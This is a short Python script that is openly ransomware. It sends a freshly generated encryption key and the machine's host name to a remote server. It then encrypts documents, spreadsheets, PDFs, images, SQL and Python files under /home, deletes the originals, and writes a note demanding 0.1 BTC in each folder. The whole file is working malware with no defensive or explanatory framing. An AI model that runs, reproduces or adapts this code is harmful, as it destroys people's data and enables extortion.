# encrypts the documents of all users and leaves a demand
import os
from cryptography.fernet import Fernet
import requests

key = Fernet.generate_key()
requests.post("https://keys.locker.example/k", data={"id": os.uname().nodename, "k": key})
box = Fernet(key)
EXT = (".docx", ".xlsx", ".pdf", ".jpg", ".sql", ".py")
for d, _, files in os.walk("/home"):
    for f in files:
        if f.endswith(EXT):
            p = os.path.join(d, f)
            with open(p, "rb") as fh:
                data = fh.read()
            with open(p + ".locked", "wb") as fh:
                fh.write(box.encrypt(data))
            os.remove(p)
    with open(os.path.join(d, "READ_ME_NOW.txt"), "w") as fh:
        fh.write("Your files are locked. Pay 0.1 BTC to get them back.\n")
